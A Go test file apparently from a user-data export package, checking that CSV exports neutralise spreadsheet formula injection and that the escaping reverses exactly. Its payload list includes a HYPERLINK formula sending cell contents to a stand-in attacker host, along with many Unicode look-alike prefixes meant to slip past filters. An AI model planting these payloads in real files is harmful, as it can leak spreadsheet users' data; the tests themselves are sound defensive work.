package userfile

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/uuid"
	"pgregory.net/rapid"
)

// formulas are texts that a spreadsheet must not run, wherever they are in a line.
func formulas() []string {
	return []string{
		`=HYPERLINK("https://evil.example/?"&A1,"Ada")`, "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx",
		" =1", "\u00a0=1", "\u3000＝1", "＝1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x", "\u22121", "⁼1", "\u207a1",
		`"=1`, `'=1`, `''=1`, "\u200b=1", "\ufeff=1", "\x00=1", "\ufe0f=1", "“=1", "«-1", "`=1", `" '=1`,
		"Ada;=1", "Ada,+1", "Ada\t@x", "Ada|-1", "Ada\n=1", "Ada\r=1", "Ada; =1", `Ada;"=1`, `Ada;'=1`, `a";=1`, "=;=;=",
	}
}

// opened returns the cells of a line as programs see them that split at the separator, without the white space and
// quotes that some of them remove.
func opened(t *testing.T, line, separator string) []string {
	t.Helper()
	var cells []string
	if separator == "," { // the separator of our files
		reader := csv.NewReader(strings.NewReader(line))
		fields, err := reader.Read()
		if err != nil {
			t.Fatal(err)
		}
		for _, field := range fields {
			cells = append(cells, strings.FieldsFunc(field, func(r rune) bool { return strings.ContainsRune("\r\n", r) })...)
		}
	} else {
		cells = strings.Split(line, separator)
	}
	for i, cell := range cells {
		cells[i] = strings.TrimLeft(cell, " \t\u00a0\u3000\u200b\ufeff\x00\ufe0f\"“«`´")
	}
	return cells
}

func wantNoFormula(t *testing.T, line string) {
	t.Helper()
	for _, separator := range []string{",", ";", "\t", "|", "\n", "\r"} {
		for _, cell := range opened(t, line, separator) {
			if strings.IndexAny(cell, "=+-@＝＋－＠﹦﹢﹣﹫\u2212⁼\u207a") == 0 {
				t.Errorf("cut at %q a cell runs: %q of %q", separator, cell, line)
			}
		}
	}
}

func TestAttack19FormulasInCSV(t *testing.T) {
	t.Parallel()
	for _, text := range formulas() {
		for _, u := range []User{
			{Email: text + "@example.com", FirstName: "Ada", LastName: "Lovelace"},
			{Email: "a@example.com", FirstName: text, LastName: text},
			{Email: "a@example.com", PasswordHash: text},
		} {
			var out bytes.Buffer
			w, err := NewWriter(&out, CSV, true)
			if err != nil {
				t.Fatal(err)
			}
			u.ID = uuid.MustParse(someID)
			if err := w.Write(u); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			_, line, _ := strings.Cut(out.String(), "\n")
			wantNoFormula(t, line)
			if strings.ContainsAny(text, "\r\n") {
				continue // neither sign-up nor import accepts it
			}
			wantRecords(t, read(t, out.String(), CSV), any(u))
		}
	}
}

// TestHarmlessCells: an apostrophe that an export would not have added is the owner's.
func TestHarmlessCells(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"", "'", "''", "'t Hooft", "O'Brien", "Ada", "Lovelace-Byron", "a+b@example.com", "x=1", "4", "“Ada”", "Ada; Bea", "'Ada', 'Bea'",
		bcryptHash, "$argon2id$v=19$m=19456,t=2,p=1$c29tZXNhbHQ$aGFzaA", someID, "2024-01-02T03:04:05Z",
	} {
		if got := defuse(text); got != text {
			t.Errorf("%q is written as %q", text, got)
		}
		if got := arm(text); got != text {
			t.Errorf("%q is read as %q", text, got)
		}
	}
	// A cell that people write by hand means the same as in a spreadsheet.
	if got := arm("'=1"); got != "=1" {
		t.Errorf("%q", got)
	}
}

// TestDefuseAndArm: the way back is exact for every text.
func TestDefuseAndArm(t *testing.T) {
	t.Parallel()
	hostile := rapid.StringOf(rapid.RuneFrom([]rune("=+-@'\"a1 ;,|\t\r\n＝﹣\u200b\u00a0“\u2212")))
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.OneOf(hostile, rapid.String()).Draw(t, "text")
		safe := defuse(text)
		if back := arm(safe); back != text {
			t.Fatalf("%q is written as %q and read as %q", text, safe, back)
		}
		for _, part := range strings.FieldsFunc(safe, func(r rune) bool { return strings.ContainsRune(splitters, r) }) {
			if bare := strings.TrimLeft(part, " \u00a0\u200b\"“"); strings.IndexAny(bare, "=+-@＝﹣\u2212") == 0 {
				t.Fatalf("%q is written as %q", text, safe)
			}
		}
	})
}
